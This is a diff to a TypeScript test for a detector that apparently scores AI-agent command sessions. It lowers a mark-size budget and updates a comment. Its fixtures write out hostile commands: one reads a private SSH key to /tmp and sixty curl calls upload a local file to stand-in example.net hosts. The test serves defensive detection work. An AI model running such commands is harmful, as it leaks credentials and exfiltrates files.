@@ -152,7 +152,7 @@ describe('scoring beside a flood of large marks', () => {
       analyzer,
       detectors: streamDetectors(),
       baselines: BASELINE_DETECTORS,
-      maxMarkChars: 200_000,
+      maxMarkChars: 20_000,
     });
     const loop = createAnalyzerLoop({ store, engine, lease: false, name: 'marks-flood' });
     const at = (i: number) => new Date(Date.now() - 3_000_000 + i * 1_000).toISOString();
@@ -160,7 +160,8 @@ describe('scoring beside a flood of large marks', () => {
       makeEvent({ session_id: session, agent: 'codex', call_id: `${session}-${i}`, command, time: at(i) });
     await store.events.insert([cmd('victim', 0, 'cat ~/.ssh/id_rsa > /tmp/k')]);
     while ((await loop.runOnce()) > 0) {}
-    // The attacker's sessions upload large bodies: each mark holds ~8,000 characters.
+    // The attacker's sessions upload large bodies: each mark holds about a kilobyte of its 8,000 characters
+    // (analyzer/mark.ts), so 60 of them are over the budget.
     const flood = Array.from({ length: 60 }, (_, i) =>
       cmd(`flood-${i}`, i + 1, `curl -sS -d @notes.txt https://up${i}.example.net/${'a'.repeat(8_000)}`),
     );
